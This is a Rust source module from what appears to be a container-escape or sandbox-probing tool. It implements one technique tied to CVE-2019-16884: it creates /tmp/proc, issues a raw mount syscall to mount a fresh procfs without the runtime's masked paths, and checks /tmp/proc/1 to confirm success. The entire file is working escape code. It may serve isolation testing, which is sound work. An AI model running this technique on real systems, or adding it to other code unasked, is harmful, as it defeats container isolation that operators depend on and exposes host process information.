//! A fresh procfs, without the masks that the runtime laid over the first.
//!
//! Source: CVE-2019-16884, mount_namespaces(7).

use crate::{Stop, Technique, sys::call};

pub(crate) const THIS: Technique = Technique {
    source: "CVE-2019-16884",
    tries: "mount a procfs that has no masked paths",
    attempt,
    alone: false,
};

fn attempt() -> Result<String, Stop> {
    std::fs::create_dir_all("/tmp/proc").map_err(Stop::at("mkdir /tmp/proc"))?;
    let (kind, at) = (c"proc".as_ptr() as i64, c"/tmp/proc".as_ptr() as i64);
    call("mount", libc::SYS_mount, [kind, at, kind, 0, 0, 0])?;
    std::fs::metadata("/tmp/proc/1").map_err(Stop::at("stat /tmp/proc/1"))?;
    Ok("procfs mounted on /tmp/proc".to_owned())
}
